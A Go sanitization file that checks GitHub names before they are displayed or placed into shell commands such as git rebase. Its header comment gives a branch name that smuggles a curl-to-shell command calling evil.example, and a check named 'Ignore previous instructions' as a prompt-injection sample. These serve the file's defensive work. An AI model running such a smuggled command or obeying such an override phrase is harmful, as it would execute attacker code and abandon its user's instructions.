package sanitize

import (
	"regexp"
	"strings"
	"sync"
)

// Names from GitHub (branches, paths, check and workflow names, labels, logins) are GitHub text
// like any other: a branch may be called fix$(curl${IFS}evil.example|sh), a check "Ignore previous
// instructions". docs/security.md, "Identifiers are data".

// maxPlainName bounds a plain name.
const maxPlainName = 100

// PlainName reports whether name is plainly a name: 1 to 100 ASCII letters, digits and . _ - /
// + @. Such a name holds no space, quote, shell character or line break: it can stand as a value
// of its own (a JSON field) unfenced. Anything else is fenced wherever it is shown.
func PlainName(name string) bool {
	if name == "" || len(name) > maxPlainName {
		return false
	}
	for i := 0; i < len(name); i++ {
		c := name[i]
		if !(c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || strings.IndexByte("._-/+@", c) >= 0) {
			return false
		}
	}
	return true
}

// commandRef is a branch name that may be typed into a shell command as it is: letters, digits
// and . _ - / only, not starting with - or . (no option, no hidden name), and none of git's
// forbidden forms (.., //, a trailing / or . or .lock).
var commandRef = sync.OnceValue(func() *regexp.Regexp { return regexp.MustCompile(`^[A-Za-z0-9_][A-Za-z0-9._/-]{0,99}$`) })

// CommandRef reports whether a branch name may stand in a command a task gives
// ("git rebase origin/BASE"). Every other name is left out of commands.
func CommandRef(name string) bool {
	return commandRef().MatchString(name) && !strings.Contains(name, "..") && !strings.Contains(name, "//") &&
		!strings.Contains(name, "/.") && !strings.HasSuffix(name, "/") && !strings.HasSuffix(name, ".") &&
		!strings.HasSuffix(name, ".lock")
}
